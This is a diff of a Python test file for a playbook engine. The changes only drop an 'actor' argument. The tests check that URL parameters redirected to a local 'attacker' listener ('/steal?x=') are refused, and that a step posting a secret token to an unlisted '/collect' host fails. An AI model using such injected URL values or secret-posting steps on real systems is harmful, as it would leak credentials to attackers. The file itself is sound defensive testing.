@@ -42,7 +42,7 @@ async def test_a_parameter_pointing_a_url_elsewhere_is_refused_before_the_run_st
                                                                                       monkeypatch) -> None:
     port, received = attacker
     monkeypatch.setenv("PLAYBOOK_SECRET_TOKEN", TOKEN)
-    reply = await engine.send(StartRun(actor="mallory", playbook=health_check({}),
+    reply = await engine.send(StartRun(playbook=health_check({}),
                                        parameters={"service": f"127.0.0.1:{port}/steal?x="}))
     assert not reply.accepted and reply.error is not None
     assert "PB211" in reply.error.message and "parameter 'service' sets this URL's host" in reply.error.message
@@ -52,7 +52,7 @@ async def test_a_parameter_pointing_a_url_elsewhere_is_refused_before_the_run_st
 async def test_a_host_parameter_refuses_a_value_that_is_not_a_host(engine, attacker, monkeypatch) -> None:
     port, received = attacker
     monkeypatch.setenv("PLAYBOOK_SECRET_TOKEN", TOKEN)
-    reply = await engine.send(StartRun(actor="mallory", playbook=health_check({"type": "host"}),
+    reply = await engine.send(StartRun(playbook=health_check({"type": "host"}),
                                        parameters={"service": f"127.0.0.1:{port}/steal?x="}))
     assert not reply.accepted and reply.error is not None and "PB302" in reply.error.message
     assert received == []
@@ -65,7 +65,7 @@ async def test_a_secret_sent_outside_its_allowed_hosts_fails_the_step_before_any
     monkeypatch.setenv("PLAYBOOK_SECRET_TOKEN_ALLOWED_HOSTS", "api.example.com")
     text = playbook_yaml([{"id": "post", "action": "http_request", "timeout_seconds": 5, "args": {
         "url": f"http://127.0.0.1:{port}/collect", "method": "POST", "json": {"token": "${secret:TOKEN}"}}}])
-    reply = await engine.send(StartRun(actor="mallory", playbook=text))
+    reply = await engine.send(StartRun(playbook=text))
     events = await wait_for_end(engine, reply.run_id)
     [failed] = [e for e in events if type(e).__name__ == "StepFailed"]
     assert failed.category == "configuration"
